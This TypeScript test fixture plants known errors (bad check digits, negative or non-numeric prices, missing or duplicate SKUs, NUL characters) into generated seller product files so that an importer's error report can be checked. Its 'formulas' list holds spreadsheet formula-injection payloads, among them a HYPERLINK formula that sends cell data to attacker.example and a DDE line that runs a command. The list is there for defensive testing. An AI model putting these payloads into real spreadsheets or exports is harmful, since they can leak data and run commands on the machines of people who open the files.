/**
 * Mistakes that sellers' files have, planted where the manifest says, so that an import's report can be compared with
 * the truth.
 */
import { checkDigit } from '../gtin.ts';
import type { Random } from '../random.ts';
import type { Field, Layout } from './layouts.ts';

export type Mistake =
  | 'bad check digit'
  | 'negative price'
  | 'price not a number'
  | 'missing SKU'
  | 'duplicate SKU'
  | 'unknown unit'
  | 'missing title'
  | 'formula'
  | 'NUL character';
export interface Planted {
  /** Records from 1, without the header. */
  readonly row: number;
  /** Lines of a CSV file, where the header is line 1; of a JSON lines file, which has none, `row` is the line. */
  readonly line: number;
  readonly mistake: Mistake;
  readonly field: Field;
  readonly column: string;
  readonly value: string;
  /** The row's SKU as it should have been: for a duplicate, the one that it took the place of. */
  readonly sku: string;
}
type Cells = Record<Field, string>;

const formulas = [
  '=HYPERLINK("http://attacker.example/?"&A1;"Price list")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3+cmd',
];
const notNumbers = ['on request', 'n/a', '12,50,00', 'Liên hệ'];
const notUnits = ['XYZ', 'Kanister', 'xấp', '??'];

const mistakes: Readonly<
  Record<
    Mistake,
    {
      readonly field: Field;
      readonly spoil: (random: Random, cells: Cells, layout: Layout, skuBefore: string) => string;
    }
  >
> = {
  'bad check digit': {
    field: 'gtin',
    spoil: (_, { gtin }) => gtin.slice(0, -1) + String((Number(checkDigit(gtin.slice(0, -1))) + 3) % 10),
  },
  'negative price': { field: 'price', spoil: (_, { price }) => `-${price}` },
  'price not a number': { field: 'price', spoil: (random) => random.pick(notNumbers) },
  'missing SKU': { field: 'sku', spoil: (random) => random.pick(['', '   ']) },
  'duplicate SKU': { field: 'sku', spoil: (_, _cells, _layout, skuBefore) => skuBefore },
  'unknown unit': { field: 'unit', spoil: (random) => random.pick(notUnits) },
  'missing title': { field: 'title', spoil: () => '' },
  formula: { field: 'title', spoil: (random) => random.pick(formulas) },
  'NUL character': {
    field: 'description',
    spoil: (_, { description }) => `${description.slice(0, 12)}\0${description.slice(12)}`,
  },
};
export const mistakeKinds = Object.keys(mistakes) as Mistake[];

/** Changes the cells in place and says what it did. `skuBefore` is the last good row's. */
export function plant(
  random: Random,
  kind: Mistake,
  cells: Cells,
  layout: Layout,
  row: number,
  skuBefore: string,
): Planted {
  const { field, spoil } = mistakes[kind],
    { sku } = cells,
    value = spoil(random, cells, layout, skuBefore);
  cells[field] = value;
  return { row, line: row + 1, mistake: kind, field, column: layout.headers[field], value, sku };
}
